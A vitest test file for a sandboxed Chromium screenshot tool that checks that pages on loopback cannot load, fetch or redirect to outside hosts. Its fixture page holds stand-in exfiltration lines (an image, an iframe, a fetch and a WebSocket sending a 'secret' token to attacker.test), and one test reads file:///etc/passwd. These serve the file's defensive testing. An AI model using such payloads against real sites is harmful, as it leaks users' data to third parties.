// Screenshots taken by Debian's Chromium through playwright-core.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Browsers, captureScreenshot, MAX_SCREENSHOT_BYTES } from '../../runner-image/pictures/chromium.ts';

let browsers: Browsers;
let server: Server;
let base: string;
/** Stands for a host elsewhere: Chromium maps attacker.test to it, so an unblocked request arrives. */
let elsewhere: Server;
let elsewherePort: number;
const elsewhereHits: string[] = [];

const listen = async (s: Server) => {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return (s.address() as AddressInfo).port;
};

beforeAll(async () => {
  browsers = new Browsers({ extraArgs: ['--host-resolver-rules=MAP attacker.test 127.0.0.1'] });
  elsewhere = createServer((req, res) => {
    elsewhereHits.push(req.url ?? '');
    res.end('<!doctype html><h1>elsewhere</h1>');
  }).on('upgrade', (req, socket) => {
    elsewhereHits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  elsewherePort = await listen(elsewhere);
  const away = `attacker.test:${elsewherePort}`;
  server = createServer((req, res) => {
    if (req.url === '/redirect') return res.writeHead(302, { location: `http://${away}/redirected?t=secret` }).end();
    if (req.url === '/leaky') {
      res.setHeader('content-type', 'text/html');
      return res.end(`<!doctype html><h1>local</h1><img src="http://${away}/img?t=secret">\
<iframe src="http://${away}/frame"></iframe>
<script>fetch('http://${away}/fetch?t=secret').catch(() => {}); new WebSocket('ws://${away}/ws');</script>`);
    }
    // A tall, noisy page: worst case for JPEG size.
    const cells = Array.from(
      { length: 6000 },
      (_, i) => `<i style="background:hsl(${(i * 137) % 360},90%,${30 + ((i * 7) % 50)}%)"></i>`,
    ).join('');
    res.end(`<!doctype html><style>i{display:inline-block;width:7px;height:7px}</style><h1>${req.url}</h1>${cells}`);
  });
  base = `http://127.0.0.1:${await listen(server)}`;
});
afterAll(async () => {
  await browsers?.close();
  server?.close();
  elsewhere?.close();
});

describe('screenshots', { timeout: 60_000 }, () => {
  it('fits a tall noisy page in ≤ 600 KB as JPEG', async () => {
    const jpeg = await captureScreenshot(browsers, `${base}/page`, true);
    expect(jpeg.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(jpeg.length).toBeLessThanOrEqual(MAX_SCREENSHOT_BYTES);
  });

  it('refuses non-http URLs', async () => {
    await expect(captureScreenshot(browsers, 'file:///etc/passwd')).rejects.toThrow(/http\(s\) URL/);
  });
});

describe('a page on loopback, which the agent may open without asking', { timeout: 60_000 }, () => {
  const settle = () => new Promise((r) => setTimeout(r, 500));

  it('loads nothing from elsewhere: images, frames, fetch and WebSockets are blocked', async () => {
    elsewhereHits.length = 0;
    const jpeg = await captureScreenshot(browsers, `${base}/leaky`);
    expect(jpeg.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    await settle();
    expect(elsewhereHits).toEqual([]);
  });

  it('cannot redirect the browser elsewhere', async () => {
    elsewhereHits.length = 0;
    await expect(captureScreenshot(browsers, `${base}/redirect`)).rejects.toThrow(
      /may load only this machine's addresses/,
    );
    await settle();
    expect(elsewhereHits).toEqual([]);
  });

  it('(control) a page elsewhere, approved on the phone, is reached', async () => {
    elsewhereHits.length = 0;
    await captureScreenshot(browsers, `http://attacker.test:${elsewherePort}/approved`);
    expect(elsewhereHits).toContain('/approved');
  });
});
